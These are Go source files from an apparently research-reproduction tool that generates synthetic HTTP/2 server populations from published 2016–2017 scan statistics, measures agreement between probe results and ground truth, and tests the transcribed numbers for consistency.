		MaxHeaderListSize:       s.MaxHeaderList,
		OmitSettings:            s.OmitSettings,
		FlowControlHeaders:      s.FlowControlHeaders,
		TinyWindow:              s.TinyWindow,
		ZeroWindowUpdateStream:  s.ZeroWUStream,
		ZeroWindowUpdateConn:    s.ZeroWUConn,
		ZeroWindowDebugData:     s.ZeroWUDebug,
		LargeWindowUpdateStream: s.LargeWUStream,
		LargeWindowUpdateConn:   s.LargeWUConn,
		Scheduling:              s.Scheduling,
		SelfDependency:          s.SelfDep,
		EnablePush:              s.Push,
		AnswerPing:              true,
	}
	if s.OmitSettings {
		p.MaxFrameSize = frame.DefaultMaxFrameSize
		p.InitialWindowSize = frame.DefaultInitialWindowSize
	}
	if !s.OmitSettings && s.InitialWindow == 0 {
		// The Nginx pattern of Table V: advertise 0, then immediately
		// reopen with WINDOW_UPDATE frames.
		p.ConnWindowBoost = frame.MaxWindowSize - frame.DefaultInitialWindowSize
		p.StreamWindowBoost = frame.MaxWindowSize - frame.DefaultInitialWindowSize
	}
	switch {
	case s.HPACKRatio >= 0.97:
		p.HPACKPolicy = hpack.PolicyNoDynamicInsert
	case s.HPACKRatio <= 0.20:
		p.HPACKPolicy = hpack.PolicyIndexAll
	default:
		p.HPACKPolicy = hpack.PolicyIndexPartial
		p.HPACKPartialFraction = partialFractionFor(s.HPACKRatio)
		p.HPACKPartialSalt = uint32(s.Rank)*2654435761 + 17
	}
	return p
}

// partialFractionFor inverts the approximate ratio model of an H-request
// probe (H=8): ratio ≈ 1/H + (H-1)/H × (1 − 0.93·fraction).
func partialFractionFor(ratio float64) float64 {
	f := (1 - (ratio-0.125)/0.875) / 0.93
	return math.Max(0, math.Min(1, f))
}

// NewSite materializes the spec's document tree.
func (s *SiteSpec) NewSite() *server.Site {
	site := server.DefaultSite(s.Domain)
	if s.Push {
		site.SetPush("/", "/static/style.css", "/static/app.js", "/static/logo.png", "/static/hero.jpg")
	} else {
		site.SetPush("/") // clear the default manifest: nothing to push
	}
	return site
}

// NewServer materializes the spec as a live HTTP/2 server.
func (s *SiteSpec) NewServer() *server.Server {
	return server.New(s.Profile(), s.NewSite())
}

// Population is one epoch's synthesized universe.
type Population struct {
	// Epoch identifies the experiment.
	Epoch Epoch
	// Scale is the down-scaling factor applied to all published counts.
	Scale float64
	// TotalSites is the (scaled) size of the top list.
	TotalSites int
	// NPNSites and ALPNSites are the (scaled) adoption counts of
	// Section V-B.1; AnnounceSites is their union.
	NPNSites, ALPNSites, AnnounceSites int
	// Sites are the working sites (those that returned HEADERS); all
	// per-feature distributions live here.
	Sites []SiteSpec
}

// Generate synthesizes the population of an epoch. scale in (0, 1] shrinks
// every published count proportionally (scale 1 reproduces the full
// 44,390- or 64,299-site working set); seed fixes all assignments.
func Generate(epoch Epoch, scale float64, seed int64) *Population {
	if scale <= 0 || scale > 1 {
		panic(fmt.Sprintf("population: scale %v out of (0,1]", scale))
	}
	d := dataFor(epoch)
	sc := func(n int) int { return int(math.Round(float64(n) * scale)) }
	w := sc(d.working)
	if w < 1 {
		w = 1
	}

	pop := &Population{
		Epoch:         epoch,
		Scale:         scale,
		TotalSites:    sc(d.totalSites),
		NPNSites:      sc(d.npnOnly + d.npnAlpn),
		ALPNSites:     sc(d.alpnOnly + d.npnAlpn),
		AnnounceSites: sc(d.npnOnly + d.alpnOnly + d.npnAlpn),
		Sites:         make([]SiteSpec, w),
	}

	for i := range pop.Sites {
		pop.Sites[i] = SiteSpec{
			Rank:   i + 1,
			Domain: fmt.Sprintf("site-%06d.example", i+1),
		}
	}

	assignNegotiation(pop.Sites, d, dimRNG(seed, 1))
	assignServerNames(pop.Sites, d, scale, dimRNG(seed, 2))
	assignSettings(pop.Sites, d, scale, dimRNG(seed, 3))
	assignTinyWindow(pop.Sites, d, scale, dimRNG(seed, 4))
	assignZeroWindowHeaders(pop.Sites, d, scale, dimRNG(seed, 5))
	assignWindowUpdateReactions(pop.Sites, d, scale, dimRNG(seed, 6))
	assignScheduling(pop.Sites, d, scale, dimRNG(seed, 7))
	assignSelfDep(pop.Sites, d, scale, dimRNG(seed, 8))
	assignPush(pop.Sites, d, scale)
	assignHPACK(pop.Sites, epoch, dimRNG(seed, 9))
	assignRTT(pop.Sites, dimRNG(seed, 10))
	return pop
}

// dimRNG derives an independent RNG stream per assignment dimension so the
// published marginals stay independent unless deliberately correlated.
func dimRNG(seed int64, dim int64) *rand.Rand {
	return rand.New(rand.NewSource(seed*1_000_003 + dim))
}

// scaleBuckets scales a counts vector to sum exactly to total, fixing
// rounding drift on the largest bucket.
func scaleBuckets(counts []int, total int) []int {
	orig := 0
	for _, c := range counts {
		orig += c
	}
	out := make([]int, len(counts))
	if orig == 0 {
		return out
	}
	sum, largest := 0, 0
	for i, c := range counts {
		out[i] = int(math.Round(float64(c) * float64(total) / float64(orig)))
		sum += out[i]
		if out[i] > out[largest] {
			largest = i
		}
	}
	out[largest] += total - sum
	if out[largest] < 0 {
		out[largest] = 0
	}
	return out
}

func assignNegotiation(sites []SiteSpec, d *epochData, rng *rand.Rand) {
	// Working sites inherit the union's composition proportionally.
	buckets := scaleBuckets([]int{d.npnAlpn, d.npnOnly, d.alpnOnly}, len(sites))
	perm := rng.Perm(len(sites))
	idx := 0
	take := func(n int, npn, alpn bool) {
		for i := 0; i < n && idx < len(perm); i++ {
			s := &sites[perm[idx]]
			s.NPN, s.ALPN = npn, alpn
			idx++
		}
	}
	take(buckets[0], true, true)
	take(buckets[1], true, false)
	take(buckets[2], false, true)
	for ; idx < len(perm); idx++ {
		sites[perm[idx]].NPN, sites[perm[idx]].ALPN = true, true
	}
}

func assignServerNames(sites []SiteSpec, d *epochData, scale float64, rng *rand.Rand) {
	type slot struct {
		name   string
		family string
	}
	slots := make([]slot, 0, len(sites))
	counts := make([]int, 0, len(d.servers)+1)
	tail := len(sites)
	for _, sv := range d.servers {
		counts = append(counts, sv.count)
	}
	scaled := scaleBuckets(counts, int(math.Round(float64(sumCounts(counts))*scale)))
	for i, sv := range d.servers {
		for j := 0; j < scaled[i]; j++ {
			slots = append(slots, slot{sv.name, sv.family})
		}
	}
	tail -= len(slots)
	// Long tail: tailKinds synthetic server names share the remainder.
	kinds := d.tailKinds
	if kinds < 1 {
		kinds = 1
	}
	for j := 0; j < tail; j++ {
		k := j % kinds
		slots = append(slots, slot{fmt.Sprintf("httpd-variant-%03d", k), d.tailFamily})
	}
	perm := rng.Perm(len(sites))
	for i, pi := range perm {
		sites[pi].ServerName = slots[i].name
		sites[pi].Family = slots[i].family
	}
}

func sumCounts(counts []int) int {
	s := 0
	for _, c := range counts {
		s += c
	}
	return s
}

// assignValues distributes a published value distribution over the sites
// selected by eligible, writing via set.
func assignValues(sites []SiteSpec, dist []valueCount, eligible []int, rng *rand.Rand, set func(*SiteSpec, int64)) {
	counts := make([]int, len(dist))
	for i, vc := range dist {
		counts[i] = vc.count
	}
	scaled := scaleBuckets(counts, len(eligible))
	perm := rng.Perm(len(eligible))
	idx := 0
	for i, n := range scaled {
		for j := 0; j < n && idx < len(perm); j++ {
			set(&sites[eligible[perm[idx]]], dist[i].value)
			idx++
		}
	}
	for ; idx < len(perm); idx++ {
		set(&sites[eligible[perm[idx]]], dist[len(dist)-1].value)
	}
}

func assignSettings(sites []SiteSpec, d *epochData, scale float64, rng *rand.Rand) {
	// The NULL rows of Tables V-VII are the same sites: those sending an
	// empty SETTINGS frame.
	nulls := int(math.Round(float64(d.omitNullRow) * scale))
	perm := rng.Perm(len(sites))
	for i := 0; i < nulls && i < len(perm); i++ {
		sites[perm[i]].OmitSettings = true
	}
	eligible := make([]int, 0, len(sites)-nulls)
	for i := range sites {
		if !sites[i].OmitSettings {
			eligible = append(eligible, i)
		}
	}
	assignValues(sites, d.initialWindow, eligible, rng, func(s *SiteSpec, v int64) {
		s.InitialWindow = uint32(v)
	})
	assignValues(sites, d.maxFrame, eligible, rng, func(s *SiteSpec, v int64) {
		s.MaxFrame = uint32(v)
	})
	assignValues(sites, d.maxHeaderList, eligible, rng, func(s *SiteSpec, v int64) {
		s.MaxHeaderList = uint32(v)
	})
	assignValues(sites, d.maxConcurrent, eligible, rng, func(s *SiteSpec, v int64) {
		s.MaxConcurrent = uint32(v)
	})
}

func assignTinyWindow(sites []SiteSpec, d *epochData, scale float64, rng *rand.Rand) {
	silent := int(math.Round(float64(d.tinySilent) * scale))
	zeroLen := int(math.Round(float64(d.tinyZeroLen) * scale))

	for i := range sites {
		sites[i].TinyWindow = server.TinyWindowComply
	}
	// The paper attributes most silent sites to LiteSpeed (10,472 of
	// 12,039 in exp. 2): fill the silent bucket from LiteSpeed first.
	wantLiteSpeed := int(float64(silent) * d.tinySilentLiteSpeedShare)
	var litespeed, others []int
	for i := range sites {
		if sites[i].Family == "litespeed" {
			litespeed = append(litespeed, i)
		} else {
			others = append(others, i)
		}
	}
	rng.Shuffle(len(litespeed), func(i, j int) { litespeed[i], litespeed[j] = litespeed[j], litespeed[i] })
	rng.Shuffle(len(others), func(i, j int) { others[i], others[j] = others[j], others[i] })
	assigned := 0
	for _, i := range litespeed {
		if assigned >= wantLiteSpeed {
			break
		}
		sites[i].TinyWindow = server.TinyWindowSilent
		assigned++
	}
	oi := 0
	for assigned < silent && oi < len(others) {
		sites[others[oi]].TinyWindow = server.TinyWindowSilent
		assigned++
		oi++
	}
	for n := 0; n < zeroLen && oi < len(others); oi++ {
		if sites[others[oi]].TinyWindow == server.TinyWindowComply {
			sites[others[oi]].TinyWindow = server.TinyWindowZeroData
			n++
		}
	}
}

func assignZeroWindowHeaders(sites []SiteSpec, d *epochData, scale float64, rng *rand.Rand) {
	// `ok` sites honor RFC 7540 and return HEADERS under a zero window;
	// the rest apply flow control to HEADERS ("the remaining sites do not
	// follow RFC 7540"). Silent tiny-window sites necessarily withhold
	// responses, so they fill the non-compliant bucket first and the
	// random remainder comes from the other sites — preserving both the
	// published marginal and the LiteSpeed-silence correlation.
	ok := int(math.Round(float64(d.zeroWindowHeadersOK) * scale))
	nonCompliant := len(sites) - ok
	var rest []int
	for i := range sites {
		if sites[i].TinyWindow == server.TinyWindowSilent {
			sites[i].FlowControlHeaders = true
			nonCompliant--
		} else {
			rest = append(rest, i)
		}
	}
	rng.Shuffle(len(rest), func(i, j int) { rest[i], rest[j] = rest[j], rest[i] })
	for i, ri := range rest {
		sites[ri].FlowControlHeaders = i < nonCompliant
	}
}

func assignWindowUpdateReactions(sites []SiteSpec, d *epochData, scale float64, rng *rand.Rand) {
	w := len(sites)
	sc := func(n int) int {
		v := int(math.Round(float64(n) * scale))
		if v > w {
			v = w
		}
		return v
	}
	// Zero WINDOW_UPDATE, stream level.
	rst := sc(d.zeroWUStream.rst)
	goaway := sc(d.zeroWUStream.goAway)
	debug := sc(d.zeroWUStream.debug)
	perm := rng.Perm(w)
	for i, pi := range perm {
		s := &sites[pi]
		switch {
		case i < rst:
			s.ZeroWUStream = server.ReactRSTStream
		case i < rst+goaway:
			s.ZeroWUStream = server.ReactGoAway
			if i-rst < debug {
				s.ZeroWUDebug = true
			}
		default:
			s.ZeroWUStream = server.ReactIgnore
		}
	}
	// Zero WINDOW_UPDATE, connection level: "nearly all return connection
	// error".
	connGoAway := sc(d.zeroWUConn.goAway)
	perm = rng.Perm(w)
	for i, pi := range perm {
		if i < connGoAway {
			sites[pi].ZeroWUConn = server.ReactGoAway
		} else {
			sites[pi].ZeroWUConn = server.ReactIgnore
		}
	}
	// Large WINDOW_UPDATE.
	streamRST := sc(d.largeWUStreamRST)
	perm = rng.Perm(w)
	for i, pi := range perm {
		if i < streamRST {
			sites[pi].LargeWUStream = server.ReactRSTStream
		} else {
			sites[pi].LargeWUStream = server.ReactIgnore
		}
	}
	connGoAway = sc(d.largeWUConnGoAway)
	perm = rng.Perm(w)
	for i, pi := range perm {
		if i < connGoAway {
			sites[pi].LargeWUConn = server.ReactGoAway
		} else {
			sites[pi].LargeWUConn = server.ReactIgnore
		}
	}
}

func assignScheduling(sites []SiteSpec, d *epochData, scale float64, rng *rand.Rand) {
	both := int(math.Round(float64(d.priorityBoth) * scale))
	lastOnly := int(math.Round(float64(d.priorityLastOnly) * scale))
	firstOnly := int(math.Round(float64(d.priorityFirstOnly) * scale))
	perm := rng.Perm(len(sites))
	for i, pi := range perm {
		s := &sites[pi]
		switch {
		case i < both:
			s.Scheduling = server.SchedPriority
		case i < both+lastOnly:
			s.Scheduling = server.SchedPriorityLastOnly
		case i < both+lastOnly+firstOnly:
			s.Scheduling = server.SchedPriorityFirstOnly
		default:
			s.Scheduling = server.SchedRoundRobin
		}
	}
}

func assignSelfDep(sites []SiteSpec, d *epochData, scale float64, rng *rand.Rand) {
	rst := int(math.Round(float64(d.selfDepRST) * scale))
	perm := rng.Perm(len(sites))
	for i, pi := range perm {
		s := &sites[pi]
		switch {
		case i < rst:
			s.SelfDep = server.ReactRSTStream
		case rng.Float64() < d.selfDepGoAwayShare:
			s.SelfDep = server.ReactGoAway
		default:
			s.SelfDep = server.ReactIgnore
		}
	}
}

func assignPush(sites []SiteSpec, d *epochData, scale float64) {
	n := int(math.Round(float64(len(d.pushDomains)) * scale))
	if n < 1 {
		n = 1
	}
	if n > len(d.pushDomains) {
		n = len(d.pushDomains)
	}
	if n > len(sites) {
		n = len(sites)
	}
	// Push sites take the paper's real domain names (Fig. 3 names them) and
	// sit at deterministic spots so both epochs keep the same six.
	for i := 0; i < n; i++ {
		idx := (i * 7919) % len(sites)
		for sites[idx].Push {
			idx = (idx + 1) % len(sites)
		}
		sites[idx].Push = true
		sites[idx].Domain = d.pushDomains[i]
	}
}

func assignHPACK(sites []SiteSpec, epoch Epoch, rng *rand.Rand) {
	for i := range sites {
		sites[i].HPACKRatio = familyRatio(epoch, sites[i].Family, rng)
	}
}

// familyRatio samples a target HPACK compression ratio matching the
// per-family CDF shapes of Figs. 4 (Jul 2016) and 5 (Jan 2017): GSE always
// below 0.3; LiteSpeed 80% below 0.3; Nginx overwhelmingly at 1 (no
// response-header indexing); IdeaWebServer near 1; Tengine concentrated in
// exp. 1 (the tmall.com fleet) and diverse in exp. 2.
func familyRatio(epoch Epoch, family string, rng *rand.Rand) float64 {
	u := rng.Float64()
	switch family {
	case "GSE":
		return 0.10 + 0.18*u
	case "nginx":
		if rng.Float64() < 0.935 {
			return 1.0
		}
		return 0.30 + 0.60*u
	case "tengine":
		if epoch == EpochJul2016 {
			// tmall.com sites share near-identical resources.
			return 0.33 + 0.04*u
		}
		return 0.20 + 0.70*u
	case "litespeed":
		if rng.Float64() < 0.80 {
			return 0.12 + 0.18*u
		}
		return 0.30 + 0.65*u
	case "ideaweb":
		return 0.82 + 0.18*u
	default:
		return 0.20 + 0.80*u
	}
}

func assignRTT(sites []SiteSpec, rng *rand.Rand) {
	for i := range sites {
		// Log-normal-ish Internet RTTs: median ~30 ms, tail to ~300 ms.
		ms := math.Exp(rng.NormFloat64()*0.7 + 3.4)
		if ms < 2 {
			ms = 2
		}
		if ms > 350 {
			ms = 350
		}
		sites[i].BaseRTT = time.Duration(ms * float64(time.Millisecond))
	}
}
