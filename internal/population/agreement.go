package population

import (
	"fmt"
	"strings"

	"h2scope/internal/core"
	"h2scope/internal/server"
)

// Agreement quantifies how faithfully a measured scan reproduced the
// generator's ground truth, per behavioral dimension. It is the
// reproduction's calibration instrument: if any fraction drops below 1.0,
// either a probe or the server engine mis-measures that dimension.
type Agreement struct {
	// Sites is how many scanned sites carried comparable reports.
	Sites int
	// Dimensions maps a dimension name to the fraction of sites whose
	// measured classification equals the spec ([0,1]).
	Dimensions map[string]float64
	// Mismatches lists "domain: dimension" entries for disagreements.
	Mismatches []string
}

// ComputeAgreement compares each scanned site's report with its spec.
func ComputeAgreement(sum *ScanSummary) *Agreement {
	agr := &Agreement{Dimensions: make(map[string]float64)}
	counts := make(map[string]int)
	matches := make(map[string]int)
	record := func(domain, dim string, ok bool) {
		counts[dim]++
		if ok {
			matches[dim]++
		} else {
			agr.Mismatches = append(agr.Mismatches, domain+": "+dim)
		}
	}
	for _, res := range sum.Results {
		spec, r := res.Spec, res.Report
		if r == nil || r.Settings == nil {
			continue
		}
		agr.Sites++
		record(spec.Domain, "server-name", r.Settings.ServerHeader == spec.ServerName)
		if r.FlowData != nil {
			record(spec.Domain, "tiny-window", tinyClassOf(spec.TinyWindow) == r.FlowData.Class)
		}
		if r.ZeroWindowHeaders != nil {
			record(spec.Domain, "zero-window-headers",
				r.ZeroWindowHeaders.GotHeaders == !spec.FlowControlHeaders)
		}
		if r.ZeroWU != nil {
			record(spec.Domain, "zero-wu-stream", observationOf(spec.ZeroWUStream) == r.ZeroWU.Stream)
			record(spec.Domain, "zero-wu-conn", observationOf(spec.ZeroWUConn) == r.ZeroWU.Conn)
		}
		if r.LargeWU != nil {
			record(spec.Domain, "large-wu-stream", observationOf(spec.LargeWUStream) == r.LargeWU.Stream)
			record(spec.Domain, "large-wu-conn", observationOf(spec.LargeWUConn) == r.LargeWU.Conn)
		}
		if r.SelfDep != nil {
			record(spec.Domain, "self-dependency", observationOf(spec.SelfDep) == r.SelfDep.Reaction)
		}
		if r.Push != nil {
			record(spec.Domain, "server-push", r.Push.Supported == spec.Push)
		}
		if r.Priority != nil {
			wantLast := spec.Scheduling == server.SchedPriority || spec.Scheduling == server.SchedPriorityLastOnly
			record(spec.Domain, "priority-last-rule", r.Priority.LastRuleOK == wantLast)
		}
	}
	for dim, n := range counts {
		agr.Dimensions[dim] = float64(matches[dim]) / float64(n)
	}
	return agr
}

// tinyClassOf maps a behavior knob to the probe's observation class.
func tinyClassOf(b server.TinyWindowBehavior) core.TinyWindowClass {
	switch b {
	case server.TinyWindowZeroData:
		return core.TinyWindowZeroLen
	case server.TinyWindowSilent:
		return core.TinyWindowNothing
	default:
		return core.TinyWindowOneByte
	}
}

// observationOf maps a behavior knob to the probe's observation.
func observationOf(r server.Reaction) core.Observation {
	switch r {
	case server.ReactRSTStream:
		return core.ObserveRSTStream
	case server.ReactGoAway:
		return core.ObserveGoAway
	default:
		return core.ObserveIgnore
	}
}

// Perfect reports whether every dimension agreed on every site.
func (a *Agreement) Perfect() bool { return len(a.Mismatches) == 0 }

// String renders the agreement report.
func (a *Agreement) String() string {
	var b strings.Builder
	fmt.Fprintf(&b, "measurement-vs-ground-truth agreement over %d sites:\n", a.Sites)
	dims := make([]string, 0, len(a.Dimensions))
	for dim := range a.Dimensions {
		dims = append(dims, dim)
	}
	sortStrings(dims)
	for _, dim := range dims {
		fmt.Fprintf(&b, "  %-22s %.3f\n", dim, a.Dimensions[dim])
	}
	if len(a.Mismatches) > 0 {
		fmt.Fprintf(&b, "  mismatches: %s\n", strings.Join(a.Mismatches, "; "))
	}
	return b.String()
}

func sortStrings(s []string) {
	for i := 1; i < len(s); i++ {
		for j := i; j > 0 && s[j] < s[j-1]; j-- {
			s[j], s[j-1] = s[j-1], s[j]
		}
	}
}
