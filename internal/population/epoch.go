// Package population synthesizes the paper's measurement universe: the
// Alexa top 1M as observed in the two scans (Jul. 2016 and Jan. 2017).
//
// The 2016/2017 Internet is unreachable, so the generator reproduces the
// *published* marginal distributions — adoption counts (Section V-B),
// server-name shares (Table IV), SETTINGS values (Tables V-VII, Fig. 2),
// flow-control behaviors (Section V-D), priority compliance (Section V-E),
// push support (Section V-F), and per-family HPACK ratios (Figs. 4-5) — as
// a deterministic population of SiteSpecs. Each spec can be materialized as
// a live in-process HTTP/2 server, so the same H2Scope probes that would
// have scanned the real Internet re-measure the synthetic one; the
// reproduction's tables are *measured*, not copied.
//
// Where the paper publishes only marginals, dimensions are assigned
// independently (each with its own seeded shuffle); where it names a joint
// relationship — LiteSpeed dominating the silent tiny-window bucket, Nginx
// and Tengine pinning the HPACK ratio at 1, tmall.com's Tengine fleet
// sharing one ratio, the NULL-settings sites being the same sites in every
// settings table — that relationship is honored.
package population

// Epoch selects one of the paper's two measurement campaigns.
type Epoch int

// The two experiments of Section V.
const (
	// EpochJul2016 is "the first experiment" (Jul. 2016).
	EpochJul2016 Epoch = iota + 1
	// EpochJan2017 is "the second experiment" (Jan. 2017).
	EpochJan2017
)

// String names the epoch as the paper does.
func (e Epoch) String() string {
	switch e {
	case EpochJul2016:
		return "1st Exp. (Jul 2016)"
	case EpochJan2017:
		return "2nd Exp. (Jan 2017)"
	default:
		return "unknown epoch"
	}
}

// valueCount is one row of a published distribution table.
type valueCount struct {
	value int64
	count int
}

// nameCount is one row of Table IV.
type nameCount struct {
	name   string
	family string
	count  int
}

// reactionCounts allocates Observation-style behavior buckets; remainder
// goes to "ignore".
type reactionCounts struct {
	rst    int
	goAway int
	debug  int // subset of goAway carrying debug text
}

// epochData holds every published number for one experiment.
type epochData struct {
	totalSites int

	// Adoption (Section V-B.1): NPN 49,334 / ALPN 47,966 in exp. 1;
	// 78,714 / 70,859 in exp. 2. The published values fix the margins; the
	// overlap is chosen so both margins hold.
	npnOnly  int
	alpnOnly int
	npnAlpn  int
	// working is the number of sites that returned HEADERS frames
	// (44,390 / 64,299) — the denominator of every later table.
	working int

	// servers is Table IV plus a long tail ("223 and 345 different kinds
	// of servers").
	servers     []nameCount
	tailKinds   int
	tailFamily  string
	omitNullRow int // sites whose SETTINGS frame is empty (the NULL rows)

	// initialWindow is Table V, excluding the NULL row.
	initialWindow []valueCount
	// maxFrame is Table VI, excluding the NULL row.
	maxFrame []valueCount
	// maxHeaderList is Table VII, excluding the NULL row; value 0 encodes
	// "unlimited" (the setting is omitted).
	maxHeaderList []valueCount
	// maxConcurrent approximates Fig. 2's CDF, excluding the NULL row.
	maxConcurrent []valueCount

	// tiny window behavior under SETTINGS_INITIAL_WINDOW_SIZE=1
	// (Section V-D.1): 1-byte / zero-length / silent.
	tinyOneByte int
	tinyZeroLen int
	tinySilent  int
	// tinySilentLiteSpeedShare is the fraction of silent sites assigned to
	// LiteSpeed (the paper: 10,472 of 12,039 in exp. 2).
	tinySilentLiteSpeedShare float64

	// zeroWindowHeadersOK is Section V-D.2: sites that returned HEADERS
	// under a zero window (17,191 / 23,834).
	zeroWindowHeadersOK int

	// zeroWUStream / zeroWUConn are Section V-D.3.
	zeroWUStream reactionCounts
	zeroWUConn   reactionCounts

	// largeWUStreamRST / largeWUConnGoAway are Section V-D.4; the
	// remainders ignored the overflow.
	largeWUStreamRST  int
	largeWUConnGoAway int

	// Priority compliance (Section V-E.1): both rules / last-rule only /
	// first-rule only; the rest schedule round-robin.
	priorityBoth      int
	priorityLastOnly  int
	priorityFirstOnly int

	// selfDepRST is Section V-E.2; the remainder splits between GOAWAY and
	// ignore.
	selfDepRST         int
	selfDepGoAwayShare float64

	// pushDomains are the sites that sent PUSH_PROMISE (Section V-F);
	// the paper's Fig. 3 names them.
	pushDomains []string
}

// jul2016 is the first experiment's published numbers.
func jul2016() *epochData {
	return &epochData{
		totalSites: 1_000_000,
		npnOnly:    4_034,
		alpnOnly:   2_666,
		npnAlpn:    45_300, // NPN 49,334; ALPN 47,966; union 52,000
		working:    44_390,

		servers: []nameCount{
			{"LiteSpeed", "litespeed", 12_637},
			{"nginx", "nginx", 11_293},
			{"GSE", "GSE", 9_928},
			{"Tengine", "tengine", 2_535},
			{"cloudflare-nginx", "nginx", 1_197},
			{"IdeaWebServer/v0.80", "ideaweb", 1_128},
		},
		tailKinds:   217, // 223 kinds total, 6 named above
		tailFamily:  "other",
		omitNullRow: 1_050,

		initialWindow: []valueCount{
			{0, 3_072},
			{32_768, 3},
			{65_535, 49},
			{65_536, 20_477},
			{131_072, 1},
			{262_144, 1},
			{1_048_576, 10_799},
			{16_777_216, 11},
			{20_000_000, 1},
			{2_147_483_647, 8_926},
		},
		maxFrame: []valueCount{
			{16_384, 24_781},
			{1_048_576, 27},
			{16_777_215, 18_532},
		},
		maxHeaderList: []valueCount{
			{0, 32_568}, // unlimited
			{16_384, 10_717},
			{32_768, 3},
			{81_920, 2},
			{131_072, 24},
			{1_048_896, 26},
		},
		maxConcurrent: []valueCount{
			{1, 150},
			{10, 300},
			{32, 500},
			{50, 700},
			{100, 17_500},
			{101, 400},
			{128, 14_000},
			{200, 1_200},
			{250, 800},
			{256, 3_000},
			{512, 1_200},
			{1_000, 1_500},
			{2_000, 590},
			{4_096, 800},
			{100_000, 700},
		},

		tinyOneByte:              37_525,
		tinyZeroLen:              2_433,
		tinySilent:               4_432,
		tinySilentLiteSpeedShare: 0.80,

		zeroWindowHeadersOK: 17_191,

		zeroWUStream:      reactionCounts{rst: 23_673, goAway: 31, debug: 26},
		zeroWUConn:        reactionCounts{rst: 0, goAway: 43_500, debug: 26},
		largeWUStreamRST:  36_619,
		largeWUConnGoAway: 40_567,

		priorityBoth:      38,
		priorityLastOnly:  1_109, // 1,147 obey the last rule, 38 obey both
		priorityFirstOnly: 8,     // 46 obey the first rule, 38 obey both

		selfDepRST:         18_237,
		selfDepGoAwayShare: 0.6,

		pushDomains: []string{
			"miconcinemas.com", "nghttp2.org", "paperculture.com",
			"rememberthemilk.com", "tollmanz.com", "travelground.com",
		},
	}
}

// jan2017 is the second experiment's published numbers.
func jan2017() *epochData {
	return &epochData{
		totalSites: 1_000_000,
		npnOnly:    12_714,
		alpnOnly:   4_859,
		npnAlpn:    66_000, // NPN 78,714; ALPN 70,859; union 83,573
		working:    64_299,

		servers: []nameCount{
			{"nginx", "nginx", 27_394},
			{"LiteSpeed", "litespeed", 13_626},
			{"GSE", "GSE", 9_929},
			{"Tengine/Aserver", "tengine", 2_620},
			{"cloudflare-nginx", "nginx", 1_766},
			{"IdeaWebServer/v0.80", "ideaweb", 1_261},
			{"Tengine", "tengine", 674},
		},
		tailKinds:   338, // 345 kinds total, 7 named above
		tailFamily:  "other",
		omitNullRow: 1_015,

		initialWindow: []valueCount{
			{0, 7_499},
			{32_768, 59},
			{65_535, 106},
			{65_536, 40_612},
			{131_072, 1},
			{262_144, 1},
			{1_048_576, 10_929},
			{16_777_216, 15},
			{2_147_483_647, 4_062},
		},
		maxFrame: []valueCount{
			{16_384, 25_987},
			{1_048_576, 81},
			{16_777_215, 37_216},
		},
		maxHeaderList: []valueCount{
			{0, 52_311}, // unlimited
			{16_384, 10_806},
			{32_768, 59},
			{81_920, 3},
			{131_072, 25},
			{1_048_896, 80},
		},
		maxConcurrent: []valueCount{
			{1, 200},
			{10, 400},
			{32, 600},
			{50, 900},
			{100, 25_000},
			{101, 500},
			{128, 21_000},
			{200, 1_800},
			{250, 1_000},
			{256, 4_500},
			{512, 1_700},
			{1_000, 2_500},
			{2_000, 884},
			{4_096, 1_300},
			{100_000, 1_000},
		},

		tinyOneByte:              44_204,
		tinyZeroLen:              8_056,
		tinySilent:               12_039,
		tinySilentLiteSpeedShare: 0.87, // 10,472 of 12,039 are LiteSpeed

		zeroWindowHeadersOK: 23_834,

		zeroWUStream:      reactionCounts{rst: 26_156, goAway: 162, debug: 42},
		zeroWUConn:        reactionCounts{rst: 0, goAway: 63_000, debug: 42},
		largeWUStreamRST:  44_057,
		largeWUConnGoAway: 62_668,

		priorityBoth:      111,
		priorityLastOnly:  2_076, // 2,187 obey the last rule, 111 obey both
		priorityFirstOnly: 6,     // 117 obey the first rule, 111 obey both

		selfDepRST:         53_379,
		selfDepGoAwayShare: 0.6,

		pushDomains: []string{
			"miconcinemas.com", "nghttp2.org", "paperculture.com",
			"rememberthemilk.com", "tollmanz.com", "travelground.com",
			"addtoany.com", "cloudflare.com", "eotica.com.br",
			"getapp.com", "intimshop.ru", "neobux.com",
			"powerforen.de", "recreoviral.com", "tvgazeta.com.br",
		},
	}
}

// dataFor returns the published numbers for an epoch.
func dataFor(e Epoch) *epochData {
	if e == EpochJan2017 {
		return jan2017()
	}
	return jul2016()
}
