package population

import "testing"

// TestEpochDataInternalConsistency cross-checks the transcribed published
// numbers: every settings table must cover exactly the working sites, and
// the adoption margins must match the paper's sums.
func TestEpochDataInternalConsistency(t *testing.T) {
	for _, tc := range []struct {
		epoch     Epoch
		npn, alpn int
	}{
		{EpochJul2016, 49_334, 47_966},
		{EpochJan2017, 78_714, 70_859},
	} {
		d := dataFor(tc.epoch)
		t.Run(tc.epoch.String(), func(t *testing.T) {
			if got := d.npnOnly + d.npnAlpn; got != tc.npn {
				t.Errorf("NPN margin = %d, want %d", got, tc.npn)
			}
			if got := d.alpnOnly + d.npnAlpn; got != tc.alpn {
				t.Errorf("ALPN margin = %d, want %d", got, tc.alpn)
			}
			if union := d.npnOnly + d.alpnOnly + d.npnAlpn; union < d.working {
				t.Errorf("announce union %d below working %d", union, d.working)
			}
			sum := func(rows []valueCount) int {
				s := d.omitNullRow
				for _, r := range rows {
					s += r.count
				}
				return s
			}
			if got := sum(d.initialWindow); got != d.working {
				t.Errorf("Table V total = %d, want %d", got, d.working)
			}
			if got := sum(d.maxFrame); got != d.working {
				t.Errorf("Table VI total = %d, want %d", got, d.working)
			}
			if got := sum(d.maxHeaderList); got != d.working {
				t.Errorf("Table VII total = %d, want %d", got, d.working)
			}
			if got := sum(d.maxConcurrent); got != d.working {
				t.Errorf("Fig 2 total = %d, want %d", got, d.working)
			}
			if got := d.tinyOneByte + d.tinyZeroLen + d.tinySilent; got != d.working {
				t.Errorf("tiny-window buckets = %d, want %d", got, d.working)
			}
			if d.zeroWindowHeadersOK > d.working {
				t.Error("zero-window HEADERS above working")
			}
			if d.zeroWUStream.debug > d.zeroWUStream.goAway {
				t.Error("debug-bearing GOAWAYs exceed GOAWAYs")
			}
			if d.priorityBoth > d.priorityLastOnly+d.priorityBoth {
				t.Error("priority buckets inconsistent")
			}
			named := 0
			for _, sv := range d.servers {
				named += sv.count
			}
			if named > d.working {
				t.Errorf("named servers %d exceed working %d", named, d.working)
			}
			if len(d.pushDomains) == 0 {
				t.Error("no push domains")
			}
		})
	}
}

